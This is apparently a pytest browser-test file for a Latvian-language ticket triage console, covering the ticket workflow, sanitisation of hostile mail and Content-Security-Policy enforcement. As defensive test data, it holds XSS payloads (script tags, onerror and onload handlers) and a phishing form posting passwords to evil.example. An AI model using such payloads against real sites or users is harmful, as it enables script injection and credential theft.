"""The console in a real headless Chromium (Debian's ``chromium``, driven by Playwright;
no browser is ever downloaded): sign in, confirm with a key, change with a reason and see
the notice in the outbox, reply, resolve; hostile mail renders inert; the CSP stops an
injected inline script. One browser per module; screenshots are kept in
test-artifacts/screenshots/."""

from __future__ import annotations

import pytest
from sqlalchemy import select

from tests.browser_support import chromium, require_chromium, screenshot
from tests.console_server import serving
from tests.console_support import PASSWORD, ConsoleWorld, mail, make_world
from triage_desk.storage.models import OutboxItem, Ticket

require_chromium()
from playwright.sync_api import Browser, Page  # noqa: E402


@pytest.fixture(scope="module")
def browser():
    with chromium() as launched:
        yield launched


def signed_in(browser: Browser, base: str, username: str = "agnese") -> tuple[Page, list[str]]:
    """A page signed in as ``username`` and the list every dialog (alert) lands in."""
    page = browser.new_context().new_page()
    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.goto(f"{base}/login")
    page.fill('input[name="username"]', username)
    page.fill('input[name="password"]', PASSWORD)
    page.click("#sign-in")
    page.wait_for_url(f"{base}/queue")
    return page, dialogs


def row(world: ConsoleWorld, number: str) -> Ticket:
    with world.app.sessions() as session:
        return session.scalars(select(Ticket).where(Ticket.number == number)).one()


def kinds(world: ConsoleWorld) -> list[str]:
    with world.app.sessions() as session:
        return list(session.scalars(select(OutboxItem.kind).order_by(OutboxItem.id)))


def test_sign_in_confirm_change_reply_resolve(browser, world, tmp_path):
    first = world.mail(mail("Nevaru izveidot atskaiti", "Labdien! Poga 'Izveidot' nestrādā."))
    second = world.mail(mail("Jautājums par piekļuvi", "Labdien! Kā piešķirt piekļuvi?"))
    with serving(world.web) as base:
        page, dialogs = signed_in(browser, base)
        screenshot(page, "queue")
        # One key: the first row is selected; "c" confirms it through htmx (CSRF in a header).
        selected = page.locator("tr.ticket-row.selected").get_attribute("id")
        number = selected.removeprefix("row-")
        assert number in (first, second)
        assert not row(world, number).category_confirmed
        page.keyboard.press("c")
        page.locator(f"#row-{number} .tag.ok").wait_for()
        assert row(world, number).category_confirmed

        # Change with a reason: the recategorisation notice is queued and listed.
        other = second if number == first else first
        page.goto(f"{base}/tickets/{other}")
        current = row(world, other).category
        choices = page.locator("#change-category option").all_inner_texts()
        target = next(c for c in choices if c != current)
        page.select_option("#change-category", target)
        page.fill("#change-reason", "Tas ir jautājums, nevis kļūda")
        page.click("#change button")
        page.wait_for_url(f"{base}/tickets/{other}")
        assert row(world, other).category == target
        page.goto(f"{base}/outbox")
        assert page.locator("tr.outbox-item.recategorisation").count() == 1
        screenshot(page, "outbox")

        # Reply through the ticket's channel: the first reply is the response time.
        page.goto(f"{base}/tickets/{other}")
        page.fill("#reply-text", "Labdien! Piekļuvi piešķir administrators.")
        page.click("#send-reply")
        page.wait_for_url(f"{base}/tickets/{other}")
        assert page.inner_text("#status") == "answered"
        assert row(world, other).first_response_at == world.clock()
        assert "staff_reply" in kinds(world)

        page.click("#resolve")
        page.wait_for_url(f"{base}/tickets/{other}")
        assert page.inner_text("#status") == "resolved"
        assert "resolution" in kinds(world)
        screenshot(page, "ticket")
        assert dialogs == []


def test_hostile_mail_renders_inert(browser, sqlite_url, example_config, classifier, tmp_path):
    world = make_world(example_config, sqlite_url, classifier, tmp_path)
    script = world.mail(
        mail(
            "<script>alert('subject')</script>",
            "Labdien! <script>alert('text')</script><img src=x onerror=alert('img')>",
            html="<p>Sveiki<script>alert('html')</script>"
            "<img src=x onerror=\"alert('html-img')\"></p>",
        )
    )
    phishing = world.mail(
        mail(
            "Jūsu konts tiks bloķēts",
            html="<p>Ievadiet paroli:</p><form action='https://evil.example/steal'>"
            "<input type=password name=p><button>Sūtīt</button></form>"
            "<a href='https://evil.example/login' onclick=\"alert('click')\">banka.lv</a>"
            "<iframe src='https://evil.example'></iframe>"
            "<svg onload=\"alert('svg')\"></svg>",
            sender="Banka <drosiba@banka.example>",
        )
    )
    with serving(world.web) as base:
        page, dialogs = signed_in(browser, base)
        for number in (script, phishing):
            page.goto(f"{base}/tickets/{number}")
            for details in page.locator("details.html").all():
                details.locator("summary").click()
            frames = page.locator("iframe")
            assert frames.count() == 1
            assert frames.first.get_attribute("sandbox") == ""
            page.wait_for_load_state("networkidle")
            framed = next(f for f in page.frames if f.url.endswith("/html"))
            content = framed.content()
            assert "<script" not in content and "onerror" not in content
            assert "<form" not in content and "<input" not in content
            assert "<iframe" not in content and "onload" not in content
            screenshot(page, f"{number}")
        assert page.evaluate("document.title").startswith(phishing)
        assert dialogs == []
    world.app.engine.dispose()


def test_the_csp_stops_an_injected_inline_script(
    browser, sqlite_url, example_config, classifier, tmp_path
):
    world = make_world(example_config, sqlite_url, classifier, tmp_path)
    with serving(world.web) as base:
        page, dialogs = signed_in(browser, base)
        page.evaluate(
            """async () => {
                window.cspViolations = [];
                document.addEventListener('securitypolicyviolation',
                    e => window.cspViolations.push(e.violatedDirective));
                const s = document.createElement('script');
                s.textContent = 'window.injected = true; alert(1);';
                document.body.appendChild(s);
                const d = document.createElement('div');
                d.innerHTML = '<img src="/static/none.png" onerror="window.injected = true">';
                const failed = new Promise(r => d.firstChild.addEventListener('error', r));
                document.body.appendChild(d);
                await failed;  // the image failed: its inline handler had its chance
            }"""
        )
        assert page.evaluate("window.injected") is None
        assert any(v.startswith("script-src") for v in page.evaluate("window.cspViolations"))
        assert dialogs == []
        # Our own script, from our origin, does run: htmx is there.
        assert page.evaluate("typeof window.htmx") == "object"
    world.app.engine.dispose()
